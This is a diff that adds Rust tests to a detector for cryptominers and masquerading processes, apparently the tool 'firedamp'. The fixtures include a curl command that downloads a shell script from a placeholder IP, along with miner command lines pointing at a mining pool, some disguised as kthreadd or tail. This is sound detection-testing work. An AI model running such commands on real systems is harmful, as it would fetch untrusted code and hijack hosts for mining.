@@ -167,6 +167,61 @@ fn a_grade_has_a_reason_and_a_reason_has_words() {
     }
 }
 
+fn verdict(fact: Value) -> Value {
+    answers(format!("{fact}\n").as_bytes()).remove(0)
+}
+
+fn process(exe: &str, words: &str) -> Value {
+    let words: Vec<&str> = words.split(' ').collect();
+    let name = words[0].rsplit('/').next().unwrap();
+    json!({"kind":"process","id":1,"name":name,"exe":exe,"cmdline":words})
+}
+
+#[test]
+fn what_is_taken_out_is_where_work_comes_from_and_what_is_computed() {
+    let drops = verdict(process("", "curl -fs http://198.51.100.7:8080/x.sh -o /root/x.sh"));
+    assert_eq!(drops["extracted"]["pools"], json!([]), "{drops}");
+    let coin = verdict(process("", "./w --coin monero -o 192.0.2.9:443 -u someone -p x"));
+    assert_eq!(coin["extracted"]["algorithms"], json!(["rx/0"]), "{coin}");
+    assert_eq!(coin["extracted"]["pools"], json!(["192.0.2.9:443"]), "{coin}");
+    let end = |domain: &str| {
+        verdict(json!({"kind":"connection","id":1,"domain":domain,"ip":"192.0.2.9","port":10128}))
+    };
+    let pool = end("eu.moneropool.example");
+    assert_eq!(pool["extracted"]["pools"], json!(["eu.moneropool.example:10128"]), "{pool}");
+    assert_eq!(end("mail.garden.example")["extracted"]["pools"], json!([]));
+}
+
+#[test]
+fn nobody_is_a_thread_of_the_kernel_who_is_told_something() {
+    let told = verdict(process("", "kthreadd -o 192.0.2.9:443 -a rx/0 -u someone -k"));
+    assert_eq!(rank(&told), CONFIRMED, "{told}");
+    assert_eq!(rank(&verdict(process("", "[kthreadd]"))), 0);
+}
+
+#[test]
+fn who_only_calls_himself_a_tool_that_shows_texts_is_judged_by_what_he_is_told() {
+    let words = "tail -o 192.0.2.9:443 -a rx/0 -u someone -k";
+    assert_eq!(rank(&verdict(process("/tmp/.x/tail", words))), CONFIRMED);
+    assert!(rank(&verdict(process("/usr/bin/tail", words))) < SUSPECT);
+}
+
+#[test]
+fn a_list_shows_whether_a_name_in_brackets_has_memory() {
+    let list = "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n\
+        root 2 0.0 0.0 0 0 ? S 10:00 0:00 [kthreadd]\n\
+        root 41 0.0 0.0 0 0 ? I 10:00 0:01 [kworker/0:1-events]\n\
+        root 77 0.0 0.1 9000 400 ? S 10:00 0:01 [kworker/0:2]\n";
+    let mut command = Command::new(env!("CARGO_BIN_EXE_firedamp"));
+    command.args(["assess", "-", "--json", "--from", "ps"]).stdin(Stdio::piped());
+    let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
+    child.stdin.take().unwrap().write_all(list.as_bytes()).unwrap();
+    let output = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap();
+    let ranks: Vec<usize> =
+        output.lines().map(|line| rank(&serde_json::from_str(line).unwrap())).collect();
+    assert_eq!(ranks, [0, 0, SUSPECT], "{output}");
+}
+
 #[test]
 fn a_bad_line_is_named_and_stops_nothing() {
     let good = json!({"kind":"process","id":7,"name":"sleep","exe":"/usr/bin/sleep","cmdline":["sleep","9"]});
